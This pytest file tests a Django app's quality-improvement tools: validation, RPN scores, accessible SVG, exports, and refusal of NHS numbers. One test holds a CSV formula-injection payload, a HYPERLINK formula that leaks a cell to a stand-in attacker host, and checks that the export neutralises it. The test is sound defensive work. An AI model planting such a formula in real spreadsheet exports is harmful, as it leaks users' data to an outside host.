"""Each tool validates what it is given, draws a picture and exports (CSV, JSON, SVG, PDF)."""

import csv
import io
import json

import pytest
from django.urls import reverse

from champion.improvement.models import Tool
from champion.improvement.tools import export_csv, picture_svg, spec_for


def post_tool(client, tool, header=None, rows=(), version=None, title="T"):
    data = {
        "title": title,
        "version": tool.version if version is None else version,
        "row_count": len(rows),
    }
    for name, value in (header or {}).items():
        data[f"h-{name}"] = value
    for i, row in enumerate(rows):
        for name, value in row.items():
            data[f"r-{i}-{name}"] = value
    return client.post(reverse("improvement:tool-edit", args=[tool.pk]), data)


def new_tool(project, kind, header=None, rows=()):
    return Tool.objects.create(
        project=project, kind=kind, title=kind, data={"header": header or {}, "rows": list(rows)}
    )


FMEA_ROW = {"failure_mode": "Wrong patient", "severity": "9", "occurrence": "3", "detection": "4"}


@pytest.mark.parametrize("bad", ["0", "11", "-2", "seven"])
def test_fmea_scores_outside_1_to_10_are_refused_with_a_message(bad):
    _, errors = spec_for("fmea").validate({"process": "Triage"}, [FMEA_ROW | {"severity": bad}])
    assert "Severity must" in errors["0-severity"]


def test_fmea_computes_rpn_and_revised_rpn():
    data, errors = spec_for("fmea").validate(
        {"process": "Triage"}, [FMEA_ROW | {"revised_occurrence": "1"}]
    )
    assert errors == {}
    row = spec_for("fmea").table(data)[0]
    assert (row["rpn"], row["revised_rpn"]) == (108, 36)


def test_an_rpn_out_of_range_is_refused_through_the_page_and_what_was_typed_is_kept(
    world, client_for, project
):
    tool = new_tool(project, "fmea")
    response = post_tool(
        client_for(world.member), tool, {"process": "Triage"}, [FMEA_ROW | {"detection": "12"}]
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "Detection must be from 1 to 10 (you entered 12)." in body
    assert 'value="Wrong patient"' in body and 'value="12"' in body
    tool.refresh_from_db()
    assert tool.rows == [] and tool.version == 1


def test_required_header_fields_are_enforced():
    _, errors = spec_for("fishbone").validate(
        {"effect": ""}, [{"category": "People", "cause": "Tired"}]
    )
    assert errors == {"effect": "Problem (the fish's head) is required."}


def test_blank_rows_are_ignored_but_a_tool_needs_its_minimum():
    data, errors = spec_for("pareto").validate(
        {"measure": "Falls"}, [{"category": "", "count": ""}] * 3
    )
    assert data["rows"] == [] and "at least 2" in errors["rows"]


def test_pareto_counts_must_be_non_negative_numbers():
    _, errors = spec_for("pareto").validate(
        {"measure": "x"}, [{"category": "a", "count": "-1"}, {"category": "b", "count": "many"}]
    )
    assert (
        errors["0-count"] == "Count cannot be negative."
        and errors["1-count"] == "Count must be a number."
    )


def test_choices_must_come_from_the_list():
    _, errors = spec_for("process_map").validate(
        {"process": "x"}, [{"step": "Wait", "value": "maybe"}]
    )
    assert "Choose a value" in errors["0-value"]


def test_five_whys_stops_at_seven():
    _, errors = spec_for("five_whys").validate(
        {"problem": "x"}, [{"answer": str(i)} for i in range(8)]
    )
    assert "seven whys" in errors["rows"]


def test_a_valid_save_bumps_the_version_and_redirects(world, client_for, project):
    tool = new_tool(project, "fishbone")
    response = post_tool(
        client_for(world.member),
        tool,
        {"effect": "Falls"},
        [{"category": "People", "cause": "Agency staff"}],
        title="Why falls",
    )
    tool.refresh_from_db()
    assert response.url == tool.get_absolute_url()
    assert (
        tool.version == 2
        and tool.title == "Why falls"
        and tool.rows == [{"category": "People", "cause": "Agency staff"}]
    )


@pytest.mark.parametrize(
    ("kind", "header", "rows"),
    [
        (
            "fishbone",
            {"effect": "Falls at night"},
            [{"category": "People", "cause": "Agency <staff>"}],
        ),
        (
            "process_map",
            {"process": "Discharge"},
            [{"step": "Wait for TTO", "owner": "Pharmacy", "value": "waste", "minutes": 90}],
        ),
        (
            "pareto",
            {"measure": "Falls by place"},
            [{"category": "Bedside", "count": 12}, {"category": "Toilet", "count": 5}],
        ),
    ],
)
def test_drawn_tools_render_accessible_svg(project, kind, header, rows):
    svg = picture_svg(new_tool(project, kind, header, rows))
    assert svg.startswith("<svg") and "</svg>" in svg
    if kind != "pareto":
        assert "<title" in svg and "<desc" in svg and 'role="img"' in svg
    assert "<staff>" not in svg  # everything a person typed is escaped


def test_every_tool_page_renders_and_exports(world, client_for, project):
    client = client_for(world.colleague)  # a reader, not an editor
    samples = {
        "fishbone": ({"effect": "Falls"}, [{"category": "People", "cause": "Tired"}]),
        "five_whys": ({"problem": "Fall"}, [{"answer": "Bell out of reach"}]),
        "sipoc": (
            {"process": "Triage"},
            [
                {
                    "supplier": "GP",
                    "input": "Letter",
                    "step": "Book in",
                    "output": "Record",
                    "customer": "Nurse",
                }
            ],
        ),
        "process_map": (
            {"process": "Discharge"},
            [{"step": "Decide", "owner": "Dr", "value": "va", "minutes": 5}],
        ),
        "fmea": (
            {"process": "Triage"},
            [{"failure_mode": "Missed", "severity": 8, "occurrence": 2, "detection": 5}],
        ),
        "pareto": (
            {"measure": "Falls"},
            [{"category": "Bed", "count": 3}, {"category": "Toilet", "count": 1}],
        ),
        "stakeholders": (
            {},
            [
                {
                    "stakeholder": "Night staff",
                    "influence": "high",
                    "current": "doubtful",
                    "desired": "supportive",
                }
            ],
        ),
        "change_plan": (
            {},
            [{"action": "Teach", "owner": "Sister", "due": "2026-01-31", "status": "todo"}],
        ),
    }
    for kind, (header, rows) in samples.items():
        tool = new_tool(project, kind, header, rows)
        assert client.get(tool.get_absolute_url()).status_code == 200, kind
        csv_text = client.get(
            reverse("improvement:tool-export", args=[tool.pk, "csv"])
        ).content.decode()
        assert len(csv_text.splitlines()) == 1 + len(rows), kind
        exported = json.loads(
            client.get(reverse("improvement:tool-export", args=[tool.pk, "json"])).content
        )
        assert exported["kind"] == kind and len(exported["rows"]) == len(rows)
        svg = client.get(reverse("improvement:tool-export", args=[tool.pk, "svg"]))
        assert svg.status_code == (200 if spec_for(kind).svg else 404), kind
    pdf = client.get(reverse("improvement:tool-export", args=[tool.pk, "pdf"]))
    assert pdf.content.startswith(b"%PDF")


def test_fmea_csv_includes_the_rpn(project):
    tool = new_tool(
        project,
        "fmea",
        {"process": "x"},
        [{"failure_mode": "Missed", "severity": 8, "occurrence": 2, "detection": 5}],
    )
    header, row = export_csv(tool).splitlines()
    assert header.endswith("RPN,Revised RPN") and row.endswith(",80,")


def test_a_tool_export_neutralises_spreadsheet_formulas_and_keeps_numbers(
    world, client_for, project
):
    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the audit")'
    tool = new_tool(
        project,
        "fmea",
        {"process": "x"},
        [{"failure_mode": formula, "effect": "@SUM(1)", "severity": 8, "occurrence": 2,
          "detection": 5}],
    )  # fmt: skip
    response = client_for(world.member).get(
        reverse("improvement:tool-export", args=[tool.pk, "csv"])
    )
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["Failure mode"] == "'" + formula and row["Effect"] == "'@SUM(1)"
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
    assert (row["Severity"], row["RPN"]) == ("8", "80")


def test_tool_text_that_identifies_a_patient_is_refused():
    # 943 476 5919 is a valid NHS number (mod-11 check digit).
    _, errors = spec_for("fmea").validate(
        {"process": "Triage"}, [FMEA_ROW | {"failure_mode": "Wrong band for 943 476 5919"}]
    )
    assert "NHS number" in errors["0-failure_mode"]
    _, errors = spec_for("fmea").validate({"process": "Triage"}, [FMEA_ROW])
    assert errors == {}
